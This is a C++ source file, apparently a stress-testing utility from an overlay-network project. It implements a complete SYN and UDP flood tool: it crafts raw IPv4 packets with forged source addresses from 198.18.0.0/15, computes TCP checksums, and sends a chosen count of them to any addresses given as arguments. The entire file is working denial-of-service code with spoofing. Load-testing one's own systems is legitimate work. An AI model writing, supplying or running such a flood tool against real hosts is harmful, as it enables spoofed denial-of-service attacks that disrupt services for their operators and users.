// syn_flood [udp] ADDRESS... PORT COUNT: so many TCP SYNs, or datagrams, with forged sources, to
// each address in turn.
#include <arpa/inet.h>
#include <cerrno>
#include <cstdio>
#include <cstdlib>
#include <random>
#include <sys/socket.h>
#include <vector>

#include "overlay/base/bytes.hh"

namespace {

using namespace i3;

std::uint32_t sum_of(Bytes bytes) {
  std::uint32_t sum = 0;
  for (std::size_t at = 0; at + 1 < bytes.size(); at += 2)
    sum += static_cast<std::uint32_t>(bytes[at] << 8 | bytes[at + 1]);
  return sum;
}
std::uint16_t folded(std::uint32_t sum) {
  while (sum >> 16 != 0) sum = (sum & 0xffff) + (sum >> 16);
  return static_cast<std::uint16_t>(~sum);
}

// The kernel fills in length, ID and checksum of the IP header. UDP over IPv4 needs no checksum.
std::array<std::uint8_t, 40> datagram(std::uint32_t source, std::uint32_t destination,
                                      std::uint16_t port, std::uint32_t chance) {
  std::array<std::uint8_t, 40> packet{};
  Writer ip(packet);
  ip.u32(0x45000000);
  ip.u32(0);
  ip.u32(0x40110000);
  ip.u32(source);
  ip.u32(destination);
  ip.u16(static_cast<std::uint16_t>(1024 + chance % 60000));
  ip.u16(port);
  ip.u16(20);  // header and content
  return packet;
}

std::array<std::uint8_t, 40> syn(std::uint32_t source, std::uint32_t destination,
                                 std::uint16_t port, std::uint32_t chance) {
  std::array<std::uint8_t, 40> packet{};
  Writer ip(packet);
  ip.u32(0x45000000);
  ip.u32(0);
  ip.u32(0x40060000);
  ip.u32(source);
  ip.u32(destination);
  Writer tcp(MutBytes(packet).subspan(20));
  tcp.u16(static_cast<std::uint16_t>(1024 + chance % 60000));
  tcp.u16(port);
  tcp.u32(chance);
  tcp.u32(0);
  tcp.u32(0x5002ffff);
  tcp.u32(0);
  const std::uint16_t sum = folded(sum_of(Bytes(packet).subspan(12)) + 6 + 20);
  Writer(MutBytes(packet).subspan(36)).u16(sum);
  return packet;
}

}  // namespace

int main(int argc, char** argv) {
  const bool udp = argc > 1 && std::string_view(argv[1]) == "udp";
  if (udp) {
    --argc;
    ++argv;
  }
  if (argc < 4) return 2;
  const auto port = static_cast<std::uint16_t>(std::atoi(argv[argc - 2]));
  const int count = std::atoi(argv[argc - 1]);
  const int raw = ::socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
  if (raw < 0) return std::perror("raw socket"), 1;
  std::mt19937 chance(1);
  for (int i = 0; i < count; ++i) {
    sockaddr_in to{};
    to.sin_family = AF_INET;
    ::inet_pton(AF_INET, argv[1 + i % (argc - 3)], &to.sin_addr);
    // 198.18.0.0/15, which is nobody's.
    const std::uint32_t source = 0xc6120000 | (static_cast<std::uint32_t>(chance()) & 0x1ffff);
    const auto packet = (udp ? datagram : syn)(source, ntohl(to.sin_addr.s_addr), port,
                                               static_cast<std::uint32_t>(chance()));
    if (::sendto(raw, packet.data(), packet.size(), 0, reinterpret_cast<const sockaddr*>(&to),
                 sizeof to) < 0 &&
        errno != ENOBUFS)
      return std::perror("sending"), 1;
  }
  return 0;
}
